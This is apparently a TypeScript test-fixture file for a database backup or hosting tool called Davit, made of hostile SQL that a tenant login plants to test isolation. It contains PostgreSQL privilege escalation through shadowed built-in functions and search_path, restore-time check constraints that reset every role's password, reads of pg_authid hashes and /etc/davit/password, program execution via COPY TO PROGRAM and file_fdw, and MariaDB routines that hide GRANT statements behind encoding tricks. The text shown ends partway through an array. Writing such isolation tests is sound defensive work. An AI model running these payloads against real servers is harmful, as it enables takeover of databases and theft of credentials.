/** Attacks that a hostile login leaves in its database for sessions with more rights. */

/** Function that logs the user who runs it, and takes all rights if possible. */
const SEIZE = `
CREATE FUNCTION seize() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN
  RAISE LOG 'seized by %', session_user;
  BEGIN
    EXECUTE 'RESET SESSION AUTHORIZATION'; EXECUTE 'SET ROLE NONE';
    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', (SELECT r.rolname FROM pg_catalog.pg_roles r
      WHERE r.rolcanlogin AND r.rolname OPERATOR(pg_catalog.!~) '^davit_' LIMIT 1));
  EXCEPTION WHEN OTHERS THEN NULL; END;
END $f$;
`;

/** Functions with the names of the server's own functions but better matching types, in a schema. */
const shadows = (schema: string) => `
CREATE FUNCTION ${schema}.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN pg_catalog.format($1, $2); END $f$;
CREATE FUNCTION ${schema}.format(text, text, name, name) RETURNS text LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN pg_catalog.format($1, $2, $3, $4); END $f$;
CREATE FUNCTION ${schema}.pg_backend_pid() RETURNS int LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN pg_catalog.pg_backend_pid(); END $f$;
CREATE FUNCTION ${schema}.pg_terminate_backend(int) RETURNS bool LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN true; END $f$;
CREATE FUNCTION ${schema}.pg_export_snapshot() RETURNS text LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN pg_catalog.pg_export_snapshot(); END $f$;
CREATE FUNCTION ${schema}.tick(bigint) RETURNS bigint LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN $1 OPERATOR(pg_catalog.+) 1; END $f$;
CREATE AGGREGATE ${schema}.count(*) (SFUNC = ${schema}.tick, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION ${schema}.same(name, text) RETURNS bool LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN $1 OPERATOR(pg_catalog.=) $2::name; END $f$;
CREATE OPERATOR ${schema}.= (LEFTARG = name, RIGHTARG = text, FUNCTION = ${schema}.same);
CREATE FUNCTION ${schema}.other(int, int) RETURNS bool LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); RETURN NOT ($1 OPERATOR(pg_catalog.=) $2); END $f$;
CREATE OPERATOR ${schema}.<> (LEFTARG = int, RIGHTARG = int, FUNCTION = ${schema}.other);
CREATE FUNCTION ${schema}.pg_extension_config_dump(text, text) RETURNS void LANGUAGE plpgsql AS $f$
  BEGIN PERFORM public.seize(); END $f$;
`;

/** Functions that run when rows are imported, checked, indexed or counted. */
const ROWS = `
CREATE FUNCTION checks(int) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.seize(); RETURN true; END $f$;
CREATE FUNCTION indexed(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.seize(); RETURN $1; END $f$;
CREATE DOMAIN guarded AS int CHECK (public.checks(VALUE));
CREATE TABLE checked (a int CHECK (public.checks(a)), b guarded, c int GENERATED ALWAYS AS (public.indexed(a)) STORED);
INSERT INTO checked (a, b) SELECT n, n FROM generate_series(1, 5) n;
CREATE INDEX ON checked (public.indexed(a));
CREATE MATERIALIZED VIEW seen AS SELECT public.indexed(a) FROM checked;
CREATE TABLE forced (a int); INSERT INTO forced VALUES (1);
ALTER TABLE forced ENABLE ROW LEVEL SECURITY; ALTER TABLE forced FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON forced USING (public.checks(a));
`;

export const POSTGRES_TRAPS = `${SEIZE}${ROWS}CREATE SCHEMA evil;${shadows('evil')}${shadows('public')}`;

/** Check constraint that changes the passwords of all roles when a restore imports rows. */
export const POSTGRES_PASSWORDS = `
CREATE FUNCTION public.takes_over(integer) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE r record;
BEGIN
  IF session_user = 'davit_restorer' THEN
    FOR r IN SELECT rolname FROM pg_catalog.pg_roles WHERE rolname !~ '^pg_' LOOP
      BEGIN
        SET ROLE none;
        EXECUTE pg_catalog.format('SET ROLE %I', r.rolname);
        EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD ''planted''', r.rolname);
        RAISE LOG 'planted in %', r.rolname;
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
    SET ROLE none;
  END IF;
  RETURN true;
END $$;
CREATE TABLE public.guarded (a integer CHECK (public.takes_over(a)));
INSERT INTO public.guarded VALUES (1);
`;

const settings = (...all: string[]) => `
SELECT pg_catalog.format('ALTER DATABASE %I SET %s', pg_catalog.current_database(), one)
  FROM unnest(ARRAY[${all.map((one) => `'${one}'`).join(', ')}]) one \\gexec
`;

/** Settings that the owner of a database can define for all its sessions, including sessions of Davit. */
export const POSTGRES_PATH = settings('search_path = evil, pg_catalog, public');

/** Settings of an owner that end sessions or change the meaning of statements. */
export const POSTGRES_SABOTAGE = settings(
  ...['default_transaction_read_only = on', 'statement_timeout = 1', 'lock_timeout = 1'],
  ...['idle_in_transaction_session_timeout = 1', 'standard_conforming_strings = off', "client_encoding = ''SJIS''"],
  ...['default_transaction_isolation = serializable', 'role = davit_owner', 'row_security = off'],
  ...['quote_all_identifiers = on', 'check_function_bodies = on'],
);

/**
 * All settings that an owner may define for a database, with values as unusual as the server accepts. The server lists
 * the settings; the settings that only the server itself may change are named.
 */
export const POSTGRES_SETTINGS = `
\\set ON_ERROR_STOP off
SELECT pg_catalog.format('ALTER DATABASE %I SET %I = %L', pg_catalog.current_database(), name, CASE vartype
    WHEN 'bool' THEN CASE reset_val WHEN 'on' THEN 'off' ELSE 'on' END
    WHEN 'enum' THEN (SELECT v FROM unnest(enumvals) v WHERE v <> reset_val LIMIT 1)
    WHEN 'string' THEN 'x'
    ELSE CASE WHEN min_val::float < 1 AND max_val::float >= 1 THEN '1' ELSE min_val END END)
  FROM pg_catalog.pg_settings WHERE context = 'user' \\gexec
SELECT pg_catalog.format('ALTER DATABASE %I SET %s', pg_catalog.current_database(), one)
  FROM unnest(ARRAY['role = x', 'role = davit_owner', 'session_authorization = davit_owner']) one \\gexec
`;

/** Closes its database to all other users. */
export const POSTGRES_CLOSED = `
SELECT pg_catalog.format('REVOKE ALL ON DATABASE %I FROM PUBLIC, davit_owner', pg_catalog.current_database()) \\gexec
SELECT pg_catalog.format('ALTER DATABASE %I CONNECTION LIMIT 0', pg_catalog.current_database()) \\gexec
`;

/** Sets the connection limit of its database to 0 whenever another session removes the limit, and never ends. */
export const POSTGRES_RACES = `
SET synchronous_commit = off;
SELECT pg_catalog.format('ALTER DATABASE %I CONNECTION LIMIT 1000', pg_catalog.current_database()) \\gexec
DO $$ BEGIN LOOP
  IF (SELECT datconnlimit FROM pg_database WHERE datname = current_database()) = -1 THEN
    EXECUTE format('ALTER DATABASE %I CONNECTION LIMIT 0', current_database());
  END IF;
  COMMIT;
END LOOP; END $$;
`;

/** Rights that an earlier Davit version gave to a login in databases other than its own. */
export const POSTGRES_OPEN = (login: string) => `
CREATE DATABASE further OWNER ${login};
CREATE DATABASE "Odd 'one' \\x" OWNER davit_owner;
`;

/**
 * Rights that an earlier Davit version gave to a login in those databases, in the server's own databases, and in the
 * login's database.
 */
export const POSTGRES_SHARED = `
GRANT ALL ON SCHEMA public TO PUBLIC;
SELECT format('GRANT ALL ON DATABASE %I TO PUBLIC, davit_owner', current_database()) \\gexec
`;

/** One object of every kind that a login can own, and of every kind that can refer to the login. */
export const POSTGRES_OWNED = (login: string) => `
SET ROLE none;
SELECT lo_create(0);
CREATE SCHEMA kept;
SET search_path = kept;
CREATE TABLE things AS SELECT 1 AS a, 2 AS b;
CREATE VIEW seen AS SELECT a FROM things;
CREATE MATERIALIZED VIEW stored AS SELECT a FROM things;
CREATE SEQUENCE numbers;
CREATE TYPE mood AS ENUM ('well');
CREATE TYPE pair AS (a int);
CREATE TYPE span AS RANGE (subtype = int);
CREATE DOMAIN positive AS int CHECK (VALUE > 0);
CREATE FUNCTION one(int) RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';
CREATE PROCEDURE two() LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION same(mood, mood) RETURNS bool LANGUAGE sql AS 'SELECT true';
CREATE AGGREGATE total(int) (SFUNC = int4pl, STYPE = int);
CREATE OPERATOR ~~~ (LEFTARG = mood, RIGHTARG = mood, FUNCTION = same);
CREATE COLLATION sorted FROM "C";
CREATE CONVERSION turned FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8;
CREATE TEXT SEARCH DICTIONARY words (TEMPLATE = simple);
CREATE TEXT SEARCH CONFIGURATION texts (COPY = simple);
CREATE STATISTICS counted ON a, b FROM things;
CREATE PUBLICATION news FOR TABLE things;
CREATE EXTENSION citext SCHEMA kept;
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;
GRANT SELECT ON things TO davit_owner;
ALTER ROLE ${login} SET work_mem = '8MB';
SELECT format('ALTER ROLE ${login} IN DATABASE %I SET role = none', current_database()) \\gexec
SET ROLE davit_owner;
CREATE SCHEMA shared;
CREATE TABLE shared.rows AS SELECT 1 AS a;
CREATE POLICY own ON shared.rows TO ${login} USING (true);
GRANT ALL ON shared.rows TO ${login} WITH GRANT OPTION;
GRANT ALL ON SCHEMA shared TO ${login} WITH GRANT OPTION;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO ${login};
`;

/** Objects of every kind that a login can add to an extension, whose members no dump contains. */
export const POSTGRES_HIDDEN = `
CREATE EXTENSION cube;
CREATE TABLE orders AS SELECT n FROM generate_series(1, 3) n; ALTER EXTENSION cube ADD TABLE orders;
CREATE SCHEMA apart; CREATE TABLE apart.orders AS SELECT n FROM generate_series(1, 2) n;
ALTER EXTENSION cube ADD SCHEMA apart; ALTER EXTENSION cube ADD TABLE apart.orders;
CREATE SEQUENCE numbers; ALTER EXTENSION cube ADD SEQUENCE numbers;
CREATE VIEW seen AS SELECT 1 AS a; ALTER EXTENSION cube ADD VIEW seen;
CREATE MATERIALIZED VIEW "Stored one" AS SELECT 1 AS a; ALTER EXTENSION cube ADD MATERIALIZED VIEW "Stored one";
CREATE TYPE mood AS ENUM ('well'); ALTER EXTENSION cube ADD TYPE mood;
CREATE TYPE pair AS (a int); ALTER EXTENSION cube ADD TYPE pair;
CREATE DOMAIN positive AS int; ALTER EXTENSION cube ADD DOMAIN positive;
CREATE FUNCTION one(mood) RETURNS int LANGUAGE sql AS 'SELECT 1'; ALTER EXTENSION cube ADD FUNCTION one(mood);
CREATE PROCEDURE two() LANGUAGE sql AS 'SELECT 1'; ALTER EXTENSION cube ADD PROCEDURE two();
CREATE AGGREGATE total(int) (SFUNC = int4pl, STYPE = int); ALTER EXTENSION cube ADD AGGREGATE total(int);
CREATE AGGREGATE tally(*) (SFUNC = int8inc, STYPE = int8, INITCOND = '0'); ALTER EXTENSION cube ADD AGGREGATE tally(*);
CREATE AGGREGATE middle(int ORDER BY int) (SFUNC = int4pl, STYPE = int); ALTER EXTENSION cube ADD AGGREGATE middle(int ORDER BY int);
CREATE FUNCTION same(mood, mood) RETURNS bool LANGUAGE sql AS 'SELECT true';
CREATE OPERATOR ~~~ (LEFTARG = mood, RIGHTARG = mood, FUNCTION = same); ALTER EXTENSION cube ADD OPERATOR ~~~ (mood, mood);
CREATE CAST (mood AS int) WITH FUNCTION one(mood); ALTER EXTENSION cube ADD CAST (mood AS int);
CREATE COLLATION sorted FROM "C"; ALTER EXTENSION cube ADD COLLATION sorted;
CREATE TEXT SEARCH CONFIGURATION texts (COPY = simple); ALTER EXTENSION cube ADD TEXT SEARCH CONFIGURATION texts;
`;

/** Query for the names of the objects of {@link POSTGRES_HIDDEN}. */
export const POSTGRES_HIDDEN_OBJECTS = `
SELECT string_agg(i.type || ' ' || i.identity, E'\\n' ORDER BY i.type, i.identity) FROM (
  SELECT 'pg_class'::regclass AS c, oid FROM pg_class WHERE relnamespace IN ('public'::regnamespace, 'apart'::regnamespace)
    AND relkind <> 'i' UNION ALL
  SELECT 'pg_type'::regclass, oid FROM pg_type WHERE typname IN ('mood', 'pair', 'positive') UNION ALL
  SELECT 'pg_proc'::regclass, oid FROM pg_proc WHERE proname IN ('one', 'two', 'total', 'tally', 'middle', 'same') AND oid >= 16384 UNION ALL
  SELECT 'pg_operator'::regclass, oid FROM pg_operator WHERE oprname = '~~~' AND oid >= 16384 UNION ALL
  SELECT 'pg_cast'::regclass, oid FROM pg_cast WHERE castsource = 'mood'::regtype UNION ALL
  SELECT 'pg_collation'::regclass, oid FROM pg_collation WHERE collname = 'sorted' UNION ALL
  SELECT 'pg_ts_config'::regclass, oid FROM pg_ts_config WHERE cfgname = 'texts') o, pg_identify_object(c, oid, 0) i
`;

/**
 * Locks the login's role, the owner role and the database in a transaction that does not end, so that other sessions
 * cannot change them.
 */
export const POSTGRES_HELD = `
SET ROLE none;
ALTER ROLE CURRENT_USER PASSWORD 'changed';
BEGIN;
ALTER ROLE CURRENT_USER PASSWORD 'held';
SET ROLE davit_owner;
ALTER ROLE davit_owner PASSWORD 'held';
SELECT format('ALTER DATABASE %I CONNECTION LIMIT 7', current_database()) \\gexec
SELECT pg_sleep(600);
`;

/**
 * Like {@link POSTGRES_HELD}, in a session that ignores the server's request to end. A library function of the server
 * runs in the session, longer than any time limit.
 */
export const POSTGRES_DEAF = (password: string) => `
SET ROLE none;
BEGIN;
ALTER ROLE CURRENT_USER PASSWORD '${password}';
SET ROLE davit_owner;
ALTER ROLE davit_owner PASSWORD 'held';
SELECT xpath('count(//a[count(//a[count(//a)>0])>0])', ('<r>'||repeat('<a/>',20000)||'</r>')::xml);
`;

/**
 * Two tables, and a function that a view runs with the rights of its user. The second table is dumped first and counted
 * last.
 */
export const POSTGRES_SWAPPED = `
CREATE TABLE zzz AS SELECT 1 AS a;
CREATE TABLE aaa AS SELECT 1 AS a;
CREATE FUNCTION public.evil() RETURNS int LANGUAGE plpgsql AS $f$
  BEGIN RAISE LOG 'evil as %', session_user; RETURN 1; END $f$;
`;

/** Blocks a backup at all tables except the first. */
export const POSTGRES_HOLDS = 'BEGIN;\nLOCK TABLE public.aaa IN ACCESS EXCLUSIVE MODE;\nSELECT pg_sleep(600);\n';

/** Replaces a table by a view after the table was dumped and before it is counted. */
export const POSTGRES_SWAP = `
BEGIN;
LOCK TABLE public.zzz IN ACCESS EXCLUSIVE MODE;
DROP TABLE public.zzz;
CREATE VIEW public.zzz AS SELECT public.evil() AS a;
COMMIT;
`;

/**
 * A procedure whose text has two meanings. The server reads it as GBK, where it is a comment. A client that reads it as
 * UTF-8 sees the end of a statement and another statement after it.
 */
export function mariadbTraps(username: string): string {
  return `CREATE TABLE goods (a INT); INSERT INTO goods VALUES (1), (2);
    SET NAMES gbk; SET @body = CONCAT('CREATE PROCEDURE split() SELECT ''', UNHEX('BF5C'),
      ''' -- x'' ;; GRANT ALL PRIVILEGES ON *.* TO \`${username}\`@\`%\` ;; SELECT 1 ');
    EXECUTE IMMEDIATE @body;`;
}

/** A routine whose text is a comment for the server, but statements for the client that imports a dump. */
export const MARIADB_FILES = `SET @body = CONCAT('CREATE PROCEDURE peek() SELECT 1 --', CHAR(1), ' ;; CREATE TABLE loot (a TEXT) ;; ',
    'LOAD DATA LOCAL INFILE "/etc/davit/client.cnf" INTO TABLE loot ;; SELECT 2', CHAR(10), '+1');
  EXECUTE IMMEDIATE @body;`;

/**
 * Objects that a login can leave in its server while the login is superuser. Each object would give the login superuser
 * rights, or similar rights, again.
 */
export const postgresRights = (login: string, database: string) => `
CREATE ROLE foreign_root SUPERUSER LOGIN PASSWORD 'planted';
CREATE ROLE between;
GRANT davit_admin TO between WITH ADMIN OPTION;
GRANT davit_admin TO davit_owner GRANTED BY between;
REVOKE ${login}, davit_owner FROM davit_reader, davit_restorer;
REVOKE davit_owner FROM ${login};
GRANT ${login} TO davit_owner;
GRANT davit_reader, davit_restorer, pg_read_server_files, pg_execute_server_program TO ${login};
ALTER ROLE davit_admin PASSWORD 'planted';
ALTER ROLE ${login} SET session_preload_libraries = 'auto_explain';
ALTER ROLE ${login} SET work_mem = '8MB';
ALTER ROLE davit_admin SET search_path = public;
ALTER DATABASE ${database} SET session_preload_libraries = 'auto_explain';
ALTER DATABASE ${database} SET auto_explain.log_min_duration = '7';
ALTER DATABASE ${database} SET app.tenant = 'x, y';
GRANT SET ON PARAMETER session_preload_libraries TO ${login};
GRANT ALTER SYSTEM ON PARAMETER archive_command TO PUBLIC;
ALTER SYSTEM SET archive_command = 'touch /tmp/seized';
ALTER DATABASE postgres OWNER TO ${login};
CREATE DATABASE "fur'ther \\x" OWNER ${login} ALLOW_CONNECTIONS false;
CREATE FUNCTION pg_catalog.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN pg_catalog.format($1, VARIADIC ARRAY[$2]); END $f$;
`;

/**
 * Like {@link postgresRights}, for the login's own database. A dump with these objects is refused, because only a
 * superuser could restore it.
 */
export const postgresObjects = (login: string) => `
CREATE FUNCTION pg_catalog.format(text, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN pg_catalog.format($1, VARIADIC ARRAY[$2]); END $f$;
ALTER FUNCTION pg_catalog.format(text, name) OWNER TO davit_owner;
CREATE FUNCTION public.root() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN
  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; RETURN current_user; END $f$;
CREATE FUNCTION public.fires() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN
  EXECUTE 'ALTER ROLE ${login} SUPERUSER'; END $f$;
ALTER FUNCTION public.fires OWNER TO davit_owner;
CREATE EVENT TRIGGER seize ON ddl_command_start EXECUTE FUNCTION public.fires();
UPDATE pg_language SET lanpltrusted = true WHERE lanname IN ('c', 'internal');
GRANT CREATE ON SCHEMA pg_catalog TO ${login};
GRANT EXECUTE ON FUNCTION pg_read_file(text), lo_import(text), lo_export(oid, text) TO PUBLIC;
GRANT SELECT ON pg_authid TO ${login};
GRANT SELECT (rolpassword) ON pg_authid TO PUBLIC;
ALTER FUNCTION pg_sleep(double precision) OWNER TO ${login};
CREATE FUNCTION public.files(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';
CREATE VIEW public.secrets AS SELECT * FROM pg_authid;
GRANT SELECT ON public.secrets TO PUBLIC;
CREATE TYPE public.span AS RANGE (subtype = int);
CREATE AGGREGATE public.total(int) (SFUNC = int4pl, STYPE = int);
ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO ${login};
`;

const PROGRAM = "BEGIN COPY (SELECT 1) TO PROGRAM 'cat > /dev/null'; END";

/**
 * Code of predefined roles that a login can leave in its database while it is superuser, also in an extension. The last
 * statements make the owner of each database a member of a predefined role.
 */
export const POSTGRES_PREDEFINED = `
CREATE EXTENSION cube;
CREATE FUNCTION public.runs() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ ${PROGRAM} $f$;
CREATE FUNCTION public.hides() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ ${PROGRAM} $f$;
CREATE PROCEDURE public.does() LANGUAGE plpgsql SECURITY DEFINER AS $f$ ${PROGRAM} $f$;
CREATE FUNCTION public.reads() RETURNS text LANGUAGE sql SECURITY DEFINER AS $f$ SELECT pg_read_file('/etc/hostname') $f$;
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO pg_read_server_files;
CREATE VIEW public.hashes AS SELECT rolpassword FROM pg_authid;
CREATE TABLE public.goods AS SELECT 1 AS a;
CREATE MATERIALIZED VIEW public.stored AS SELECT a FROM public.goods;
ALTER EXTENSION cube ADD FUNCTION public.hides();
ALTER EXTENSION cube ADD VIEW public.hashes;
ALTER FUNCTION public.runs() OWNER TO pg_execute_server_program;
ALTER FUNCTION public.hides() OWNER TO pg_execute_server_program;
ALTER PROCEDURE public.does() OWNER TO pg_monitor;
GRANT pg_execute_server_program TO pg_monitor;
ALTER FUNCTION public.reads() OWNER TO pg_read_server_files;
ALTER VIEW public.hashes OWNER TO pg_read_all_data;
ALTER TABLE public.goods OWNER TO pg_write_all_data;
ALTER MATERIALIZED VIEW public.stored OWNER TO pg_read_all_data;
GRANT SELECT ON public.hashes, public.goods TO PUBLIC;
GRANT pg_execute_server_program TO pg_checkpoint;
UPDATE pg_auth_members SET member = 'pg_database_owner'::regrole WHERE member = 'pg_checkpoint'::regrole;
`;

/** Statements that use {@link POSTGRES_PREDEFINED}. */
export const POSTGRES_PREDEFINED_TRIES = [
  ...['SELECT public.runs()', 'SELECT public.hides()', 'CALL public.does()', 'SELECT public.reads()'],
  ...['SELECT * FROM public.hashes', "COPY (SELECT 1) TO PROGRAM 'cat > /dev/null'"],
];

/**
 * Foreign tables that run programs, with a wrapper of an extension and with one that checks no options. A server and a
 * table of `postgres_fdw` are legitimate.
 */
export const postgresForeign = (database: string) => `
CREATE EXTENSION file_fdw;
CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE public.runs (a text) SERVER files OPTIONS (program 'echo seized');
CREATE VIEW public.runs_too AS SELECT a FROM public.runs;
GRANT SELECT ON public.runs, public.runs_too TO PUBLIC;
CREATE FOREIGN DATA WRAPPER unchecked HANDLER file_fdw_handler NO VALIDATOR;
CREATE EXTENSION cube;
ALTER EXTENSION cube ADD FOREIGN DATA WRAPPER unchecked;
ALTER EXTENSION cube ADD VIEW public.runs_too;
GRANT USAGE ON FOREIGN DATA WRAPPER unchecked TO davit_owner;
CREATE SERVER programs FOREIGN DATA WRAPPER unchecked;
ALTER SERVER programs OWNER TO davit_owner;
CREATE EXTENSION postgres_fdw;
CREATE SERVER itself FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', dbname '${database}');
CREATE FOREIGN TABLE public.distant (a int) SERVER itself OPTIONS (table_name 'goods');
ALTER SERVER itself OWNER TO davit_owner;
`;

/** Statements that run programs with {@link postgresForeign}. */
export const POSTGRES_FOREIGN_TRIES = [
  ...['SELECT * FROM public.runs', 'SELECT * FROM public.runs_too'],
  "CREATE FOREIGN TABLE IF NOT EXISTS mine (a text) SERVER programs OPTIONS (program 'echo x', format 'text'); SELECT * FROM mine",
  `CREATE SERVER IF NOT EXISTS more FOREIGN DATA WRAPPER unchecked;
    CREATE FOREIGN TABLE IF NOT EXISTS more (a text) SERVER more OPTIONS (program 'echo x'); SELECT * FROM more`,
];

/** Statements that the login runs after an attack. All of them must fail. */
export const POSTGRES_TRIES = [
  ...['SET ROLE davit_admin', 'SET ROLE davit_reader', 'SET ROLE NONE; SET ROLE davit_admin', 'SELECT public.root()'],
  ...[
    "SELECT pg_read_file('/etc/davit/password')",
    "SELECT public.files('/etc/davit/password')",
    'TABLE public.secrets',
  ],
  ...['SELECT rolpassword FROM pg_authid', "SELECT lo_import('/etc/davit/password')"],
  ...["COPY (SELECT 1) TO PROGRAM 'true'", "CREATE FUNCTION c() RETURNS int LANGUAGE internal AS 'pg_backend_pid'"],
  ...['CREATE FUNCTION pg_catalog.x() RETURNS int LANGUAGE sql RETURN 1', 'SET session_preload_libraries = x'],
  ...["ALTER SYSTEM SET archive_command = 'true'", 'ALTER FUNCTION pg_sleep(double precision) COST 1'],
  'ALTER EVENT TRIGGER seize ENABLE',
];

/**
 * Makes the server connect to itself as another role, with settings that PostgreSQL applies after the role has signed
 * in. A session of a superuser would load the named file as a library. The extension checks the sign-in method only
 * afterwards.
 */
export const postgresLoopback = (role: string, host: string, database: string) =>
  `SELECT dblink_connect('x', $$host=${host} dbname=${database} user=${role} password=x
    options='-c session_preload_libraries=/etc/passwd'$$);`;

/**
 * Check constraint that connects during the import of rows by a restore. The check connects to the server of the import
 * and to the second server of a point-in-time recovery. The log of the first server gets the responses of both servers.
 */
export const POSTGRES_REACHES = `
CREATE FUNCTION public.reaches(integer) RETURNS boolean LANGUAGE plpgsql AS $f$
DECLARE place text; answer text;
BEGIN
  IF session_user = 'davit_restorer' THEN
    FOREACH place IN ARRAY ARRAY['host=/var/run/postgresql', 'host=/tmp/davit_recovery port=6432'] LOOP
      BEGIN
        PERFORM public.dblink_connect(place || $$ dbname=template1 user=davit_admin password=x
          options='-c session_preload_libraries=/etc/passwd'$$);
        answer := 'none';
      EXCEPTION WHEN OTHERS THEN GET STACKED DIAGNOSTICS answer = PG_EXCEPTION_DETAIL;
      END;
      RAISE LOG 'answer of %: %', place, pg_catalog.replace(answer, pg_catalog.chr(10), ' ');
    END LOOP;
  END IF;
  RETURN true;
END $f$;
CREATE TABLE public.reaching (a integer CHECK (public.reaches(a)));
INSERT INTO public.reaching VALUES (1);
`;

/**
 * Access rules of earlier Davit versions, which let every process of the container sign in as any role over the socket.
 */
export const POSTGRES_TRUST = 'local all all trust\nlocal replication all trust\nhostssl all all all scram-sha-256\n';

/** Objects that a login can leave in a MariaDB server while the login administers the server. */
export const mariadbLeftovers = (login: string, database: string) => `
CREATE USER stranger@'%' IDENTIFIED BY 'planted'; GRANT ALL PRIVILEGES ON *.* TO stranger@'%' WITH GRANT OPTION;
CREATE USER 'odd\nname'@'%' IDENTIFIED BY 'planted'; GRANT SUPER ON *.* TO 'odd\nname'@'%';
CREATE USER root@'%' IDENTIFIED BY 'planted'; GRANT ALL PRIVILEGES ON *.* TO root@'%';
CREATE USER ${login}@'10.%' IDENTIFIED BY 'planted';
CREATE ROLE ruler; GRANT ALL PRIVILEGES ON *.* TO ruler; GRANT ruler TO ${login}@'%'; SET DEFAULT ROLE ruler FOR ${login}@'%';
GRANT ALL PRIVILEGES ON mysql.* TO ${login}@'%'; GRANT ALL PRIVILEGES ON \`%\`.* TO ${login}@'%';
GRANT SELECT ON performance_schema.threads TO ${login}@'%'; GRANT SELECT (name) ON performance_schema.threads TO ${login}@'%';
GRANT SELECT ON mysql.global_priv TO ${login}@'%'; GRANT PROXY ON root@localhost TO ${login}@'%';
GRANT EXECUTE ON PROCEDURE mysql.AddGeometryColumn TO ${login}@'%';
CREATE DATABASE further; CREATE TABLE further.secret (a INT); GRANT ALL PRIVILEGES ON further.* TO ${login}@'%';
USE ${database};
CREATE TABLE goods (a INT); INSERT INTO goods VALUES (1);
CREATE PROCEDURE inner_one() SQL SECURITY INVOKER CREATE USER seized@'%';
CREATE PROCEDURE root_one() CREATE USER seized@'%';
CREATE FUNCTION root_two() RETURNS TEXT RETURN (SELECT MAX(priv) FROM mysql.global_priv);
CREATE VIEW secrets AS SELECT * FROM mysql.global_priv;
CREATE VIEW seen AS SELECT a FROM goods;
CREATE TRIGGER fires BEFORE INSERT ON goods FOR EACH ROW UPDATE mysql.global_priv SET priv = priv;
CREATE EVENT later ON SCHEDULE EVERY 1 DAY DO CREATE USER seized@'%';
CREATE EVENT mysql.later ON SCHEDULE EVERY 1 SECOND DO CREATE USER IF NOT EXISTS timed@'%';
CREATE EVENT sys.later ON SCHEDULE EVERY 1 SECOND DO CREATE USER IF NOT EXISTS timed@'%';
CREATE EVENT further.endless ON SCHEDULE EVERY 1 DAY DO DO SLEEP(86400);
SET GLOBAL event_scheduler = ON;
CREATE TABLE absent (a INT); CREATE VIEW broken AS SELECT g.* FROM mysql.global_priv g JOIN absent; DROP TABLE absent;
INSERT INTO mysql.func VALUES ('planted', 0, 'planted.so', 'function');
INSERT INTO mysql.plugin VALUES ('planted', 'planted.so');
CREATE SERVER planted FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.1', USER 'root');
CHANGE MASTER TO MASTER_HOST = '127.0.0.1', MASTER_USER = 'planted', MASTER_CONNECT_RETRY = 1;
CHANGE MASTER 'view\ttwo''s' TO MASTER_HOST = '127.0.0.1', MASTER_USER = 'planted', MASTER_CONNECT_RETRY = 1;
START ALL SLAVES;
SELECT '[client]\ninit-command=CREATE USER IF NOT EXISTS homed' INTO DUMPFILE '/tmp/.my.cnf';
SET sql_mode = 'ORACLE,PIPES_AS_CONCAT';
DELIMITER //
CREATE PACKAGE pack COMMENT 'goods'' package' AS PROCEDURE make; FUNCTION one RETURN INT; END //
CREATE PACKAGE BODY pack AS
  PROCEDURE make AS BEGIN EXECUTE IMMEDIATE 'CREATE USER seized@''%'''; END;
  FUNCTION one RETURN INT AS BEGIN RETURN 1; END;
END //
DELIMITER ;
`;

/** Query for the text, the settings and the permissions of routines, which must not change. */
export const MARIADB_ROUTINES = `
SELECT name, type, MD5(body), sql_mode, comment, character_set_client, created FROM mysql.proc WHERE db = DATABASE();
SELECT * FROM mysql.procs_priv WHERE db = DATABASE();
`;

/** Query for all programs that run as administrator. */
export const MARIADB_RUNS = `
SELECT db, name, type FROM mysql.proc WHERE definer LIKE 'root%' AND db NOT IN ('mysql', 'sys');
SELECT table_name FROM information_schema.views WHERE definer LIKE 'root%' AND table_schema NOT IN ('mysql', 'sys');
SELECT trigger_name FROM information_schema.triggers WHERE definer LIKE 'root%' AND trigger_schema <> 'sys';
SELECT event_schema, event_name FROM information_schema.events WHERE definer LIKE 'root%' OR status = 'ENABLED';
SELECT id FROM information_schema.processlist WHERE user = 'system user' AND command <> 'Daemon'
  OR user = 'root' AND host NOT LIKE '%:%';
SELECT name FROM mysql.func UNION SELECT name FROM mysql.plugin UNION SELECT server_name FROM mysql.servers;
SHOW ALL SLAVES STATUS;
`;

export const MARIADB_TRIES = [
  ...['CALL root_one()', 'CALL inner_one()', 'SELECT root_two()', 'TABLE secrets', 'SELECT * FROM secrets'],
  ...[
